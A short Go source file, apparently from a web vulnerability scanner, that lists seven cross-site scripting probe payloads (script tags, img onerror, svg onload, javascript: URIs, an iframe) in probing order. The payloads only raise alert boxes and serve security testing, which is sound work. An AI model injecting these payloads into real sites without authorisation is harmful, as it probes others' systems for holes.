package payloads

// CanonicalXSSPayload is the payload used for URL-parameter probes.
const CanonicalXSSPayload = `<script>alert("XSS")</script>`

// GetXSSPayloads returns the XSS probe corpus in probing order.
func GetXSSPayloads() []string {
	return []string{
		CanonicalXSSPayload,
		`"><script>alert("XSS")</script>`,
		`<img src=x onerror=alert("XSS")>`,
		`javascript:alert("XSS")`,
		`<svg onload=alert("XSS")>`,
		`'><img src=x onerror=alert("XSS")>`,
		`<iframe src="javascript:alert('XSS')"></iframe>`,
	}
}
